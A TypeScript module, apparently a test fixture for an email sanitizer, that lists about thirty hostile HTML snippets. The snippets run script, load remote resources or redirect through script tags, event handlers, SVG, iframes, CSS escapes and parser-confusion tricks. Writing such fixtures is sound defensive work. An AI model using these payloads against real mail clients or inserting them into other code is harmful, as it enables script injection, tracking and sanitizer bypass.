/** Tells where a hostile mail tries to reach. */
export type Target = (name: string) => string;

const INLINE_SVG = 'xmlns="http://www.w3.org/2000/svg"';

/** Ways in which the HTML of a mail runs, loads or leads away by itself. Each asks for a URL of its own name. */
export const HOSTILE_HTML: Readonly<Record<string, (to: Target) => string>> = {
  script: (to) => `<script>fetch('${to('script')}')</script>`,
  'script-src': (to) => `<script src="${to('script-src')}"></script>`,
  onerror: (to) => `<img src="data:," onerror="fetch('${to('onerror')}')">`,
  'svg-onload': (to) => `<svg onload="fetch('${to('svg-onload')}')"></svg>`,
  'svg-script': (to) => `<svg ${INLINE_SVG}><script>fetch('${to('svg-script')}')</script></svg>`,
  'svg-image': (to) => `<svg><image href="${to('svg-image')}" width="9" height="9"/></svg>`,
  'svg-style': (to) => `<svg><style><img src="${to('svg-style')}"></style></svg>`,
  iframe: (to) => `<iframe src="${to('iframe')}"></iframe>`,
  srcdoc: (to) => `<iframe srcdoc="<img src='${to('srcdoc')}'>"></iframe>`,
  object: (to) => `<object data="${to('object')}"></object>`,
  embed: (to) => `<embed src="${to('embed')}">`,
  refresh: (to) => `<meta http-equiv="refresh" content="0;url=${to('refresh')}">`,
  'refresh-in-svg': (to) =>
    `<svg><style><meta http-equiv="refresh" content="0;url=${to('refresh-in-svg')}"></style></svg>`,
  stylesheet: (to) => `<link rel="stylesheet" href="${to('stylesheet')}">`,
  preload: (to) => `<link rel="preload" as="image" href="${to('preload')}">`,
  import: (to) => `<style>@import url("${to('import')}");</style>`,
  'escaped-import': (to) => `<style>@\\69mport "${to('escaped-import')}";</style>`,
  'css-url': (to) => `<style>body { background: url(${to('css-url')}) }</style>`,
  'escaped-css-url': (to) => `<p style="background: u\\72l('${to('escaped-css-url')}')">x</p>`,
  'image-set': (to) => `<p style="background: image-set('${to('image-set')}' 1x)">x</p>`,
  font: (to) =>
    `<style>@font-face { font-family: f; src: url(${to('font')}) } p { font-family: f }</style><p>x</p>`,
  image: (to) => `<img src="${to('image')}">`,
  srcset: (to) => `<img srcset="${to('srcset')} 1x">`,
  picture: (to) => `<picture><source srcset="${to('picture')}"><img src="data:,"></picture>`,
  background: (to) => `<table background="${to('background')}"><tr><td>x</td></tr></table>`,
  poster: (to) => `<video poster="${to('poster')}"></video>`,
  audio: (to) => `<audio src="${to('audio')}" autoplay></audio>`,
  input: (to) => `<input type="image" src="${to('input')}">`,
  base: (to) => `<base href="${to('base')}/"><img src="x.png">`,
  template: (to) =>
    `<div><template shadowrootmode="open"><img src="${to('template')}"></template></div>`,
  'odd-comment': (to) => `<!--><img src="${to('odd-comment')}">-->`,
  'odd-attribute': (to) => `<img/src='${to('odd-attribute')}'/alt=x>`,
  'early-end': (to) => `<style>p { content: "</style><img src='${to('early-end')}'>" }</style>`,
};
